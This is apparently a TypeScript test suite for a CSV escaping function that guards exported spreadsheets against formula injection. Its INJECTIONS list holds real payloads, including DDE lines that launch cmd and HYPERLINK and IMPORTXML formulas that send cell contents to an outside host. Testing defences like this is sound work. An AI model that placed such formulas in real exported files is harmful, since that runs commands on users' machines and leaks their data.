import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell } from './csv-cell.js';

/** Beginnings that spreadsheets run, from published lists of formula injections. */
const INJECTIONS = [
  '=1+1',
  '=cmd|\'/c calc\'!A1',
  '=HYPERLINK("http://example.org?x="&A1,"open")',
  '=IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!D2',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttext',
  '\rtext',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF@x',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20x',
  '=',
  '-',
  '"=1+1"'.slice(1),
];

const read = (cells: readonly string[]): readonly string[] => (parse(`${cells.map(csvCell).join(',')}\r\n`, { record_delimiter: '\r\n' }) as string[][])[0] ?? [];

describe('a cell of a table', () => {
  it.each(INJECTIONS)('is no formula: %j', (text) => {
    expect(read([text])).toEqual([`'${text}`]);
  });

  it.each(['2026-11-21', 'a=b', '{"a":"=1"}', '0', '', 'x"y', 'x,y', 'x\r\ny', 'a@b'])('stays what it is otherwise: %j', (text) => {
    expect(read([text])).toEqual([text]);
  });

  it('is read back by another reader, whatever it holds and stands beside', () => {
    const text = fc.string({ unit: fc.oneof(fc.string({ unit: 'grapheme', maxLength: 3 }), fc.constantFrom('"', ',', '\r', '\n', '\t', '=', '+', '-', '@', ' ', ';')) });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (texts) => {
        const back = read(texts);
        expect(back.map((cell, at) => (cell === texts[at] ? cell : cell.slice(1)))).toEqual(texts);
        expect(back.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});
